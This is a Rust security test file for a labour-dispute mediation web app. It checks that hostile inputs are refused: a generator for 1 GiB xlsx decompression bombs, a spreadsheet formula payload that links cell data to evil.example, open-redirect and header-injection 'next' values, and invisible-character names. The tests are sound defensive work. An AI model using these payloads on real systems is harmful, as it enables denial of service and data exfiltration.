//! The hostile and unlucky inputs of the hardening probe, each sent again: what the product now
//! answers, and that nothing it stores can take a report down.

use crate::helpers::*;
use diesel::prelude::*;
use serde_json::json;

const LEAP: &str = "2026-03-02T08:00:60+08:00";

/// Every report a director or the district can ask for, as (path, expected status).
fn reports_answer(app: &TestApp, token: &str) {
    for path in [
        "/api/v1/stats?from=2026-03-01&to=2026-04-01",
        "/api/v1/stats?from=2026-03-02&to=2026-03-03",
        "/api/v1/reports/monthly?month=2026-03",
        "/api/v1/reports/monthly?month=2026-03&format=csv",
        "/api/v1/reports/monthly?month=2026-03&format=xlsx",
        "/api/v1/reports/yearly?year=2026",
    ] {
        let (status, _, body) = app.get_bytes(token, path);
        assert_eq!(status, 200, "{path}: {}", String::from_utf8_lossy(&body));
    }
}

#[test]
fn a_leap_second_in_any_time_a_client_sends_is_read_as_the_next_minute_and_reports_still_answer() {
    let app = spawn_app();
    let enterprise = app.enterprise(app.street);
    let (mediator_id, mediator) = app.user("mediator", app.street, None);
    let (_, director) = app.user("director", app.street, None);

    let mut body = app.case_body(enterprise);
    body["received_at"] = json!(LEAP);
    let r = app.post(&mediator, "/api/v1/cases", body);
    assert_eq!(r.status, 201, "{:?}", r.body);
    assert_eq!(r.body["received_at"], "2026-03-02T08:01:00+08:00");
    let id = r.body["id"].as_i64().unwrap();

    let r = app.post(
        &mediator,
        &format!("/api/v1/cases/{id}/accept"),
        json!({"at": "2026-03-02T08:30:60+08:00"}),
    );
    assert_eq!(r.status, 200, "{:?}", r.body);
    let accepted = r.body["events"].as_array().unwrap().last().unwrap().clone();
    assert_eq!(accepted["at"], "2026-03-02T08:31:00+08:00");
    let r = app.post(
        &director,
        &format!("/api/v1/cases/{id}/assign"),
        json!({"mediator_id": mediator_id}),
    );
    assert_eq!(r.status, 200, "{:?}", r.body);
    let r = app.post(
        &mediator,
        &format!("/api/v1/cases/{id}/sessions"),
        json!({"held_at": "2026-03-02T08:40:60+08:00", "location": "调解室", "attendees": "双方", "notes": "首次"}),
    );
    assert_eq!(r.status, 200, "{:?}", r.body);
    assert_eq!(
        r.body["sessions"][0]["held_at"],
        "2026-03-02T08:41:00+08:00"
    );

    let r = app.post(
        &mediator,
        "/api/v1/consultations",
        json!({"received_at": LEAP, "channel": "phone", "topic": "social_insurance", "workers": 2, "summary": "咨询"}),
    );
    assert_eq!(r.status, 201, "{:?}", r.body);
    assert_eq!(r.body["received_at"], "2026-03-02T08:01:00+08:00");

    reports_answer(&app, &director);
    let march = app.get(&director, "/api/v1/reports/monthly?month=2026-03");
    assert_eq!(march.body["petitions_received"], 1, "{:?}", march.body);
    assert_eq!(march.body["consultations"], 1, "{:?}", march.body);
}

#[test]
fn an_escalation_with_a_leap_second_makes_a_case_received_at_the_next_minute() {
    let app = spawn_app();
    let enterprise = app.enterprise(app.street);
    let (_, officer) = app.designated_officer(enterprise);
    let (_, director) = app.user("director", app.street, None);
    let w = app.post(
        &officer,
        "/api/v1/warnings",
        json!({"level": "red", "category": "wage_arrears", "workers_at_risk": 35, "description": "停发工资"}),
    );
    assert_eq!(w.status, 201, "{:?}", w.body);
    let r = app.post(
        &director,
        &format!("/api/v1/warnings/{}/escalate", w.body["id"]),
        json!({"received_at": LEAP}),
    );
    assert_eq!(r.status, 201, "{:?}", r.body);
    assert_eq!(r.body["received_at"], "2026-03-02T08:01:00+08:00");
    reports_answer(&app, &director);
}

#[test]
fn a_second_61_is_refused_with_the_form_a_time_must_have() {
    let app = spawn_app();
    let enterprise = app.enterprise(app.street);
    let mut body = app.case_body(enterprise);
    body["received_at"] = json!("2026-03-02T08:00:61+08:00");
    let r = app.post(&app.admin_token, "/api/v1/cases", body);
    assert_eq!(r.status, 422, "{:?}", r.body);
    assert!(r.field_error("received_at").unwrap().contains("RFC 3339"));
}

#[test]
fn a_leap_second_already_stored_on_sqlite_cannot_fail_a_report_and_the_migration_repairs_it() {
    use diesel_migrations::MigrationHarness;
    use tiaojie::db::DbConn;
    let app = spawn_app();
    if app.ctx.db.backend() != tiaojie::db::Backend::Sqlite {
        skipped("SQLite stores a leap second as text; PostgreSQL cannot hold one");
        return;
    }
    let enterprise = app.enterprise(app.street);
    let (_, director) = app.user("director", app.street, None);
    app.create_case(&director, enterprise);
    let r = app.post(
        &director,
        "/api/v1/consultations",
        json!({"received_at": "2026-03-02T08:00:00+08:00", "channel": "phone", "topic": "social_insurance", "workers": 2, "summary": "咨询"}),
    );
    assert_eq!(r.status, 201, "{:?}", r.body);
    // As an older release stored it: second 60, which SQLite's date functions read as NULL.
    let mut conn = app.ctx.db.get().unwrap();
    diesel::sql_query("UPDATE cases SET received_at = '2026-03-02 00:00:60'")
        .execute(&mut *conn)
        .unwrap();
    diesel::sql_query("UPDATE consultations SET received_at = '2026-03-02 00:00:60.5'")
        .execute(&mut *conn)
        .unwrap();

    reports_answer(&app, &director);
    let march = app.get(&director, "/api/v1/reports/monthly?month=2026-03");
    assert_eq!(march.body["petitions_received"], 1, "{:?}", march.body);

    let DbConn::Sqlite(sqlite) = &mut *conn else {
        unreachable!()
    };
    // Back to just before the repair (2026-12-02-000001_normalise_leap_seconds), then forward
    // again: the repair runs over these rows.
    while !sqlite
        .revert_last_migration(tiaojie::db::SQLITE_MIGRATIONS)
        .unwrap()
        .to_string()
        .starts_with("20261202000001")
    {}
    sqlite
        .run_pending_migrations(tiaojie::db::SQLITE_MIGRATIONS)
        .unwrap();
    #[derive(QueryableByName)]
    struct Stored {
        #[diesel(sql_type = diesel::sql_types::Text)]
        t: String,
    }
    let case: Stored = diesel::sql_query("SELECT received_at AS t FROM cases")
        .get_result(&mut *conn)
        .unwrap();
    assert_eq!(case.t, "2026-03-02 00:01:00");
    let consultation: Stored = diesel::sql_query("SELECT received_at AS t FROM consultations")
        .get_result(&mut *conn)
        .unwrap();
    assert_eq!(consultation.t, "2026-03-02 00:01:00.5");
    let case = app.get(&director, "/api/v1/cases?page=1");
    assert_eq!(
        case.body["items"][0]["received_at"], "2026-03-02T08:01:00+08:00",
        "{:?}",
        case.body
    );
}

/// The three xlsx bombs of the probe, each a real workbook but for one part that unpacks to
/// 1 GiB: a sheet of 1 GiB of rows, a sheet whose one cell is 1 GiB long, and 1 GiB of shared
/// strings. Made once per test run (about 1 MB each) and kept in the temporary directory.
mod bombs {
    use std::io::{Cursor, Read, Write};
    use std::path::PathBuf;
    use std::sync::OnceLock;

    const GIB: usize = 1 << 30;

    /// A one-cell workbook as rust_xlsxwriter writes it, with `part` replaced by `head`, then
    /// `unit` repeated to 1 GiB, then `tail`.
    fn workbook_with(part: &str, head: &str, unit: &[u8], tail: &str) -> Vec<u8> {
        let mut book = rust_xlsxwriter::Workbook::new();
        book.add_worksheet().write_string(0, 0, "案号").unwrap();
        let base = book.save_to_buffer().unwrap();
        let mut archive = zip::ZipArchive::new(Cursor::new(base)).unwrap();
        let mut out = zip::ZipWriter::new(Cursor::new(Vec::new()));
        let options = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated)
            .compression_level(Some(9));
        for i in 0..archive.len() {
            let name = archive.by_index_raw(i).unwrap().name().to_string();
            if name != part {
                out.raw_copy_file(archive.by_index_raw(i).unwrap()).unwrap();
                continue;
            }
            out.start_file(name, options).unwrap();
            out.write_all(head.as_bytes()).unwrap();
            let block = unit.repeat((1 << 20) / unit.len());
            for _ in 0..GIB / block.len() {
                out.write_all(&block).unwrap();
            }
            out.write_all(tail.as_bytes()).unwrap();
        }
        let bytes = out.finish().unwrap().into_inner();
        let mut check = zip::ZipArchive::new(Cursor::new(&bytes)).unwrap();
        let mut n = 0;
        check
            .by_name(part)
            .unwrap()
            .read_exact(std::slice::from_mut(&mut n))
            .unwrap();
        bytes
    }

    const SHEET_HEAD: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>"#;
    const SHEET_TAIL: &str = "</sheetData></worksheet>";

    fn saved(name: &str, make: fn() -> Vec<u8>) -> PathBuf {
        let path = std::env::temp_dir().join(format!("tiaojie-bomb-{name}.xlsx"));
        if !path.exists() {
            let partial = path.with_extension(format!("{}.part", std::process::id()));
            std::fs::write(&partial, make()).unwrap();
            std::fs::rename(&partial, &path).unwrap();
        }
        path
    }

    /// (name, path) of each bomb.
    pub fn all() -> &'static [(&'static str, PathBuf)] {
        static ALL: OnceLock<Vec<(&'static str, PathBuf)>> = OnceLock::new();
        ALL.get_or_init(|| {
            vec![
                (
                    "rows",
                    saved("rows", || {
                        workbook_with(
                            "xl/worksheets/sheet1.xml",
                            SHEET_HEAD,
                            br#"<row><c t="inlineStr"><is><t>x</t></is></c></row>"#,
                            SHEET_TAIL,
                        )
                    }),
                ),
                (
                    "cell",
                    saved("cell", || {
                        workbook_with(
                            "xl/worksheets/sheet1.xml",
                            &format!(r#"{SHEET_HEAD}<row><c t="inlineStr"><is><t>"#),
                            b"AAAAAAAA",
                            &format!("</t></is></c></row>{SHEET_TAIL}"),
                        )
                    }),
                ),
                (
                    "shared-strings",
                    saved("shared-strings", || {
                        workbook_with(
                            "xl/sharedStrings.xml",
                            r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">"#,
                            b"<si><t>x</t></si>",
                            "</sst>",
                        )
                    }),
                ),
            ]
        })
    }
}

#[test]
fn each_xlsx_bomb_uploaded_to_the_import_page_is_refused_in_seconds_and_the_server_stays_up() {
    let app = spawn_app();
    let mut director = person(&app, "director", Some(app.street), None);
    for (name, path) in bombs::all() {
        let bytes = std::fs::read(path).unwrap();
        assert!(bytes.len() < 5 << 20, "{name}: {} bytes", bytes.len());
        let csrf = Browser::csrf(&director.browser.get("/ledger/import"));
        let street = app.street.to_string();
        let started = std::time::Instant::now();
        let page = director.browser.post_multipart(
            "/ledger/import",
            &[("csrf", &csrf), ("unit_id", &street), ("dry_run", "on")],
            &[("file", "bomb.xlsx", &bytes)],
        );
        let took = started.elapsed();
        assert_eq!(page.status, 422, "{name}: {}", page.body);
        assert!(
            page.body.contains("160 MB"),
            "{name}: the page says why: {}",
            page.body
        );
        // Unbounded, each took minutes and gigabytes; bounded, well under a second of work.
        assert!(took.as_secs() < 30, "{name} took {took:?}");
        assert_eq!(app.get_anonymous("/healthz").status, 200);
    }
    assert_eq!(
        app.get(&director.token, "/api/v1/cases").body["total"],
        0,
        "nothing was imported"
    );
}

#[test]
fn the_import_command_refuses_each_xlsx_bomb_within_a_two_gigabyte_address_space() {
    let app = spawn_app();
    for (name, path) in bombs::all() {
        // `ulimit -v` caps the process's whole address space: past it an allocation fails and
        // the command aborts instead of growing to 13 GB.
        let out = std::process::Command::new("sh")
            .arg("-c")
            .arg("ulimit -v 2097152 && exec \"$0\" \"$@\"")
            .arg(env!("CARGO_BIN_EXE_tiaojie"))
            .env(
                "TIAOJIE_DATABASE_URL",
                &app.ctx.settings.config.database_url,
            )
            .env_remove("TIAOJIE_CONFIG")
            .args(["import", "ledger"])
            .arg(path)
            .args(["--unit", &app.street.to_string(), "--dry-run"])
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(
            out.status.code(),
            Some(1),
            "{name}: {}\n{stderr}",
            out.status
        );
        assert!(
            stderr.contains("unpacks to more than 160 MB: import it in parts"),
            "{name}: {stderr}"
        );
    }
}

#[test]
fn a_csv_of_too_many_rows_or_with_a_giant_cell_is_refused_saying_which() {
    use tiaojie::services::ledger_import::import_csv;
    let app = spawn_app();
    let header = "案号,受理日期,申请人,被申请单位,争议类型,涉及人数,涉案金额,处理结果\n";
    let rows = format!(
        "{header}{}",
        "L,2026-01-01,a,b,c,1,1,撤回\n".repeat(200_001)
    );
    let err = import_csv(&app.ctx, app.street, &rows, true, &mut |_, _| {}).unwrap_err();
    assert!(
        format!("{err:?}").contains("has more than 200000 rows"),
        "{err:?}"
    );
    let giant = format!(
        "{header}L,2026-01-01,{},b,c,1,1,撤回\n",
        "长".repeat(40_000)
    );
    let err = import_csv(&app.ctx, app.street, &giant, true, &mut |_, _| {}).unwrap_err();
    assert!(
        format!("{err:?}").contains("has a cell of more than 32767 characters on line 2"),
        "{err:?}"
    );
}

#[test]
fn after_sign_in_or_a_language_switch_next_only_leads_to_a_path_of_this_site() {
    let app = spawn_app();
    let username = "nextdirector".to_string();
    let r = app.post(
        &app.admin_token,
        "/api/v1/users",
        json!({"username": username, "email": "next@example.org", "password": PASSWORD,
               "role": "director", "unit_id": app.street}),
    );
    assert_eq!(r.status, 201, "{:?}", r.body);
    for (next, expected) in [
        ("/\t/evil.example", "/"),
        ("/\\evil.example", "/"),
        ("//evil.example", "/"),
        ("/\r\nX: y", "/X:%20y"),
        ("/\0", "/"),
        ("/cases?page=2", "/cases?page=2"),
    ] {
        let mut b = Browser::new(&app);
        let r = b.post(
            "/login",
            &[
                ("username", &username),
                ("password", PASSWORD),
                ("next", next),
            ],
        );
        assert_eq!(r.status, 303, "{next:?}: {}", r.body);
        assert_eq!(r.location.as_deref(), Some(expected), "{next:?}");

        let csrf = Browser::csrf(&b.get("/"));
        let r = b.post("/lang", &[("csrf", &csrf), ("lang", "en"), ("next", next)]);
        assert_eq!(r.status, 303, "{next:?}: {}", r.body);
        assert_eq!(r.location.as_deref(), Some(expected), "{next:?}");
    }
}

#[test]
fn an_amount_too_large_to_sum_is_refused_and_the_largest_allowed_sums_exactly() {
    let app = spawn_app();
    let enterprise = app.enterprise(app.street);
    let (_, director) = app.user("director", app.street, None);
    let mut body = app.case_body(enterprise);
    body["amount_claimed"] = json!("999999999999999.99");
    let r = app.post(&director, "/api/v1/cases", body.clone());
    assert_eq!(r.status, 422, "{:?}", r.body);
    assert_eq!(
        r.field_error("amount_claimed"),
        Some("is too large (at most 10 digits of yuan)")
    );
    body["amount_claimed"] = json!("9999999999.99");
    for _ in 0..100 {
        let r = app.post(&director, "/api/v1/cases", body.clone());
        assert_eq!(r.status, 201, "{:?}", r.body);
    }
    let march = app.get(&director, "/api/v1/reports/monthly?month=2026-03");
    assert_eq!(
        march.body["amount_involved"], "999999999999.00",
        "{:?}",
        march.body
    );
}

#[test]
fn a_search_for_a_wildcard_finds_only_what_holds_that_character() {
    let app = spawn_app();
    let enterprise = app.enterprise(app.street);
    let (_, director) = app.user("director", app.street, None);
    app.create_case(&director, enterprise);
    let mut body = app.case_body(enterprise);
    body["applicant_name"] = json!("王_芳");
    app.post(&director, "/api/v1/cases", body);
    let total = |q: &str| {
        let r = app.get(&director, &format!("/api/v1/cases?q={q}"));
        assert_eq!(r.status, 200, "{q}: {:?}", r.body);
        r.body["total"].as_i64().unwrap()
    };
    assert_eq!(total("%25"), 0, "q=%");
    assert_eq!(total("_"), 1, "q=_ finds only the name with an underscore");
    assert_eq!(total("%5C"), 0, "q=\\");
    assert_eq!(total("%E7%8E%8B"), 2, "q=王 finds both");
    let r = app.get(&director, "/api/v1/enterprises?q=%25");
    assert_eq!(r.body["total"], 0, "{:?}", r.body);
}

#[test]
fn names_with_invisible_characters_or_nothing_visible_are_refused() {
    let app = spawn_app();
    let enterprise = app.enterprise(app.street);
    for name in [
        "王\u{202E}芳",
        "\u{200B}",
        "\u{FEFF}王芳",
        "王\u{2028}芳",
        "\u{3164}",
    ] {
        let mut body = app.case_body(enterprise);
        body["applicant_name"] = json!(name);
        let r = app.post(&app.admin_token, "/api/v1/cases", body);
        assert_eq!(r.status, 422, "{name:?}: {:?}", r.body);
        assert!(r.field_error("applicant_name").is_some(), "{name:?}");
        let r = app.post(
            &app.admin_token,
            "/api/v1/units",
            json!({"name": name, "kind": "community", "parent_id": app.street}),
        );
        assert_eq!(r.status, 422, "unit {name:?}: {:?}", r.body);
        assert!(
            r.field_error("name").is_some(),
            "unit {name:?}: {:?}",
            r.body
        );
    }
    let mut body = app.case_body(enterprise);
    body["description"] = json!("第一行\n第二行\t完");
    body["unit_id"] = json!(app.street);
    let r = app.post(&app.admin_token, "/api/v1/cases", body);
    assert_eq!(r.status, 201, "text keeps newlines and tabs: {:?}", r.body);
    assert_eq!(app.get(&app.admin_token, "/api/v1/cases").body["total"], 1);
}

#[test]
fn a_formula_in_an_applicants_name_comes_out_of_the_csv_ledger_as_text_and_is_refused_on_import() {
    use tiaojie::services::ledger_import::{import_csv, Problem};
    let app = spawn_app();
    let enterprise = app.enterprise(app.street);
    let (_, director) = app.user("director", app.street, None);
    let link = r#"=HYPERLINK("http://evil.example/?"&A1,"点此")"#;
    for name in [link, "+1", "@SUM(A1)", "-2+3"] {
        let mut body = app.case_body(enterprise);
        body["applicant_name"] = json!(name);
        let r = app.post(&director, "/api/v1/cases", body);
        assert_eq!(r.status, 201, "{:?}", r.body);
    }
    let (status, _, bytes) = app.get_bytes(
        &director,
        "/api/v1/ledger?from=2026-03-01&to=2026-04-01&format=csv",
    );
    assert_eq!(status, 200);
    let text = String::from_utf8(bytes).unwrap();
    let mut reader =
        csv::ReaderBuilder::new().from_reader(text.trim_start_matches('\u{FEFF}').as_bytes());
    let applicant = reader
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == "申请人")
        .unwrap();
    let names: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[applicant].to_string())
        .collect();
    assert_eq!(names.len(), 4);
    for name in &names {
        assert!(name.starts_with('\''), "{name} is written as text");
    }

    let e = app
        .get(&director, &format!("/api/v1/enterprises/{enterprise}"))
        .body["name"]
        .as_str()
        .unwrap()
        .to_string();
    let ledger = format!(
        "案号,受理日期,申请人,被申请单位,争议类型,涉及人数,涉案金额,处理结果\n\
         F-1,2026-01-06,\"{}\",{e},拖欠工资,4,1200,调解中\n\
         F-2,2026-01-06,王\u{200B}芳,{e},拖欠工资,4,1200,调解中\n",
        link.replace('"', "\"\"")
    );
    let report = import_csv(&app.ctx, app.street, &ledger, true, &mut |_, _| {}).unwrap();
    let problems: Vec<Problem> = report.bad.iter().map(|(_, b)| b.problem).collect();
    assert_eq!(
        problems,
        vec![Problem::FormulaLike, Problem::InvisibleCharacter]
    );
}

/// A hundred failed logins through the proxy, each said to come from `from`.
fn fail_a_hundred_times_via(app: &TestApp, from: &str) {
    for n in 0..100 {
        let r = app.try_login_via(from, &format!("nobody{}", n % 20), "wrong password!");
        assert_eq!(r.status, 401, "{:?}", r.body);
    }
}

#[test]
fn behind_a_trusted_proxy_a_hundred_failures_lock_out_only_the_address_that_failed() {
    let app = spawn_app_with(|c| c.trusted_proxies = vec!["127.0.0.1/32".into()]);
    fail_a_hundred_times_via(&app, "203.0.113.7");
    assert_eq!(
        app.try_login_via("203.0.113.7", "admin", PASSWORD).status,
        429
    );
    // A forged entry before the real client's changes nothing: the proxy appended the real one.
    assert_eq!(
        app.try_login_via("198.51.100.1, 203.0.113.7", "admin", PASSWORD)
            .status,
        429
    );
    assert_eq!(
        app.try_login_via("203.0.113.8", "admin", PASSWORD).status,
        200,
        "everyone else still signs in"
    );
}

#[test]
fn without_a_trusted_proxy_the_forwarding_headers_are_not_believed() {
    let app = spawn_app();
    fail_a_hundred_times_via(&app, "203.0.113.7");
    // The header cannot move a client out of its own lock-out.
    assert_eq!(
        app.try_login_via("203.0.113.8", "admin", PASSWORD).status,
        429
    );
}

/// (user, action) of every view of personal data logged on case `id`.
fn personal_data_views(app: &TestApp, id: i64) -> Vec<(i64, String)> {
    app.ctx
        .db
        .write_blocking(|conn| {
            use tiaojie::db::schema::access_log;
            access_log::table
                .filter(access_log::record_type.eq("case"))
                .filter(access_log::record_id.eq(id))
                .filter(access_log::action.like("view_%"))
                .order(access_log::id)
                .select((access_log::user_id, access_log::action))
                .load(conn)
                .map_err(tiaojie::error::AppError::from)
        })
        .unwrap()
}

#[test]
fn the_whole_phone_goes_to_managers_and_the_cases_own_mediator_and_every_whole_view_is_logged() {
    let app = spawn_app();
    let enterprise = app.enterprise(app.street);
    let (_, officer) = app.designated_officer(enterprise);
    let (director_id, director) = app.user("director", app.street, None);
    let own = person(&app, "mediator", Some(app.street), None);
    let (other_id, other) = app.user("mediator", app.street, None);
    let id = app.create_case(&director, enterprise)["id"]
        .as_i64()
        .unwrap();
    let path = format!("/api/v1/cases/{id}");
    assert_eq!(
        app.post(&director, &format!("{path}/accept"), json!({}))
            .status,
        200
    );
    let r = app.post(
        &director,
        &format!("{path}/assign"),
        json!({"mediator_id": own.id}),
    );
    assert_eq!(r.status, 200, "{:?}", r.body);
    let before = personal_data_views(&app, id).len();

    let seen = |token: &str| {
        let b = app.get(token, &path).body;
        (
            b["applicant_phone"].clone(),
            b["applicant_id_number"].clone(),
        )
    };
    assert_eq!(
        seen(&director),
        (json!("13812348000"), json!("11010519491231002X"))
    );
    assert_eq!(
        seen(&own.token),
        (json!("13812348000"), json!("110105********002X"))
    );
    assert_eq!(
        seen(&other),
        (json!("138****8000"), json!("110105********002X"))
    );
    assert_eq!(seen(&officer), (json!(null), json!(null)));

    let views = personal_data_views(&app, id)[before..].to_vec();
    assert_eq!(
        views,
        vec![
            (director_id, "view_phone".to_string()),
            (director_id, "view_id_number".to_string()),
            (own.id, "view_phone".to_string()),
        ],
        "the other mediator and the officer saw nothing whole"
    );
    assert!(!views.iter().any(|(u, _)| *u == other_id));

    // The document printed for signing carries the whole ID number for the case's mediator.
    let r = app.post(
        &own.token,
        &format!("{path}/close"),
        json!({"outcome": "agreement", "amount_agreed": "100", "agreement_no": "调协字〔2026〕9号"}),
    );
    assert_eq!(r.status, 200, "{:?}", r.body);
    let mut browser = own.browser;
    let print = browser.get(&format!("/cases/{id}/print/agreement"));
    assert_eq!(print.status, 200);
    assert!(print.body.contains("11010519491231002X"), "{}", print.body);
    let page = browser.get(&format!("/cases/{id}"));
    assert!(!page.body.contains("11010519491231002X"));
    assert!(page.body.contains("13812348000"));
    let last = personal_data_views(&app, id);
    assert!(last.contains(&(own.id, "view_id_number".to_string())));
}

#[test]
fn a_retried_creating_request_with_the_same_key_answers_the_first_result_and_creates_nothing() {
    let app = spawn_app();
    let enterprise = app.enterprise(app.street);
    let (_, officer) = app.designated_officer(enterprise);
    let (mediator_id, mediator) = app.user("mediator", app.street, None);
    let (_, director) = app.user("director", app.street, None);
    let body = app.case_body(enterprise);

    let first = app.post_with_key(&mediator, "/api/v1/cases", "intake-1", body.clone());
    assert_eq!(first.status, 201, "{:?}", first.body);
    let again = app.post_with_key(&mediator, "/api/v1/cases", "intake-1", body.clone());
    assert_eq!(again.status, 201, "{:?}", again.body);
    assert_eq!(again.body["id"], first.body["id"]);
    assert_eq!(again.body["case_no"], first.body["case_no"]);
    assert_eq!(app.get(&director, "/api/v1/cases").body["total"], 1);

    // The same key with another body is a conflict; another user's same key is their own.
    let mut other = body.clone();
    other["workers_involved"] = json!(3);
    let r = app.post_with_key(&mediator, "/api/v1/cases", "intake-1", other);
    assert_eq!(r.status, 409, "{:?}", r.body);
    assert_eq!(r.code(), "idempotency_conflict");
    let r = app.post_with_key(&director, "/api/v1/cases", "intake-1", body.clone());
    assert_eq!(r.status, 201);
    assert_ne!(r.body["id"], first.body["id"]);
    assert_eq!(app.get(&director, "/api/v1/cases").body["total"], 2);

    // A day later the key is forgotten.
    app.set_now(default_now() + chrono::Duration::hours(25));
    let r = app.post_with_key(&mediator, "/api/v1/cases", "intake-1", body.clone());
    assert_eq!(r.status, 201);
    assert_ne!(r.body["id"], first.body["id"]);
    app.set_now(default_now());

    let consultation = json!({"received_at": "2026-03-02T08:00:00+08:00", "channel": "phone", "topic": "social_insurance", "workers": 2, "summary": "咨询"});
    let a = app.post_with_key(
        &mediator,
        "/api/v1/consultations",
        "c-1",
        consultation.clone(),
    );
    let b = app.post_with_key(&mediator, "/api/v1/consultations", "c-1", consultation);
    assert_eq!((a.status, b.status), (201, 201));
    assert_eq!(a.body["id"], b.body["id"]);
    assert_eq!(app.get(&mediator, "/api/v1/consultations").body["total"], 1);

    let warning = json!({"level": "yellow", "category": "wage_arrears", "workers_at_risk": 3, "description": "拖欠"});
    let a = app.post_with_key(&officer, "/api/v1/warnings", "w-1", warning.clone());
    let b = app.post_with_key(&officer, "/api/v1/warnings", "w-1", warning);
    assert_eq!((a.status, b.status), (201, 201), "{:?}", b.body);
    assert_eq!(a.body["id"], b.body["id"]);
    let w = a.body["id"].as_i64().unwrap();
    let path = format!("/api/v1/warnings/{w}/escalate");
    let a = app.post_with_key(&director, &path, "e-1", json!({}));
    let b = app.post_with_key(&director, &path, "e-1", json!({}));
    assert_eq!((a.status, b.status), (201, 201), "{:?}", b.body);
    assert_eq!(a.body["id"], b.body["id"]);

    let id = first.body["id"].as_i64().unwrap();
    let case = format!("/api/v1/cases/{id}");
    assert_eq!(
        app.post(&mediator, &format!("{case}/accept"), json!({}))
            .status,
        200
    );
    let r = app.post(
        &director,
        &format!("{case}/assign"),
        json!({"mediator_id": mediator_id}),
    );
    assert_eq!(r.status, 200, "{:?}", r.body);
    let r = app.post(&mediator, &format!("{case}/close"), json!({"outcome": "agreement", "amount_agreed": "1000", "agreement_no": "调协字〔2026〕3号"}));
    assert_eq!(r.status, 200, "{:?}", r.body);
    let pay = json!({"amount": "400", "paid_at": "2026-03-02"});
    let a = app.post_with_key(&mediator, &format!("{case}/payments"), "p-1", pay.clone());
    let b = app.post_with_key(&mediator, &format!("{case}/payments"), "p-1", pay);
    assert_eq!((a.status, b.status), (200, 200), "{:?}", b.body);
    assert_eq!(b.body["amount_paid"], "400.00", "paid once: {:?}", b.body);
    assert_eq!(b.body["payments"].as_array().unwrap().len(), 1);

    let r = app.post_with_key(
        &mediator,
        "/api/v1/cases",
        "a key with spaces",
        app.case_body(enterprise),
    );
    assert_eq!(r.status, 422, "{:?}", r.body);
}

#[test]
fn a_method_a_known_route_does_not_take_is_405_naming_those_it_does() {
    let app = spawn_app();
    let ask = |method: &str, path: &str| {
        let r = ureq::request(method, &format!("{}{path}", app.base))
            .set("Authorization", &format!("Bearer {}", app.admin_token))
            .call();
        match r {
            Ok(r) | Err(ureq::Error::Status(_, r)) => (
                r.status(),
                r.header("allow").unwrap_or("").to_string(),
                r.into_string().unwrap(),
            ),
            Err(e) => panic!("{e}"),
        }
    };
    let (status, allow, body) = ask("TRACE", "/api/v1/cases");
    assert_eq!((status, allow.as_str()), (405, "GET, POST"), "{body}");
    assert!(body.contains("method_not_allowed"), "{body}");
    assert_eq!(ask("DELETE", "/api/v1/cases/7").1, "GET, PATCH");
    assert_eq!(ask("PUT", "/api/v1/reports/monthly").0, 405);
    assert_eq!(ask("TRACE", "/api/v1/no-such-thing").0, 404);
    assert_eq!(ask("DELETE", "/api/v1/cases/abc").0, 404);
}

#[test]
fn the_openapi_document_declares_each_routes_query_parameters_and_the_idempotency_key() {
    let app = spawn_app();
    let doc = app.get_anonymous("/api/v1/openapi.json").body;
    let params = |path: &str, method: &str| -> Vec<(String, bool)> {
        doc["paths"][path][method]["parameters"]
            .as_array()
            .unwrap_or(&Vec::new())
            .iter()
            .map(|p| {
                (
                    p["name"].as_str().unwrap().to_string(),
                    p["required"] == true,
                )
            })
            .collect()
    };
    let monthly = params("/api/v1/reports/monthly", "get");
    assert!(
        monthly.contains(&("month".to_string(), true)),
        "{monthly:?}"
    );
    assert!(monthly.contains(&("format".to_string(), false)));
    let stats = params("/api/v1/stats", "get");
    assert!(
        stats.contains(&("from".to_string(), true)) && stats.contains(&("to".to_string(), true))
    );
    let cases = params("/api/v1/cases", "get");
    for name in ["status", "q", "sort", "page", "per_page", "overdue"] {
        assert!(cases.iter().any(|(n, _)| n == name), "{name}: {cases:?}");
    }
    for (path, method) in [
        ("/api/v1/cases", "post"),
        ("/api/v1/consultations", "post"),
        ("/api/v1/warnings", "post"),
        ("/api/v1/warnings/{id}/escalate", "post"),
        ("/api/v1/cases/{id}/payments", "post"),
    ] {
        assert!(
            params(path, method).contains(&("Idempotency-Key".to_string(), false)),
            "{method} {path}"
        );
    }
    // Each declared query parameter is accepted by its route.
    let (_, director) = app.user("director", app.street, None);
    for path in [
        "/api/v1/reports/monthly?month=2026-03&unit_id=2&format=json",
        "/api/v1/cases?status=received&sort=deadline&overdue=false&page=1&per_page=20",
        "/api/v1/stats?from=2026-03-01&to=2026-04-01",
    ] {
        assert_eq!(app.get(&director, path).status, 200, "{path}");
    }
}

#[test]
fn the_import_command_refuses_a_file_over_64_mb_before_reading_it() {
    let app = spawn_app();
    let file = std::env::temp_dir().join(format!("tiaojie-too-large-{}.csv", std::process::id()));
    // A sparse file: its length is past the limit, its disk blocks are not written.
    let f = std::fs::File::create(&file).unwrap();
    f.set_len(tiaojie::services::ledger_import::MAX_FILE_BYTES + 1)
        .unwrap();
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_tiaojie"))
        .env(
            "TIAOJIE_DATABASE_URL",
            &app.ctx.settings.config.database_url,
        )
        .env_remove("TIAOJIE_CONFIG")
        .args(["import", "ledger"])
        .arg(&file)
        .args(["--unit", &app.street.to_string(), "--dry-run"])
        .output()
        .unwrap();
    let _ = std::fs::remove_file(&file);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.contains("is larger than 64 MB: import it in parts"),
        "{stderr}"
    );
}
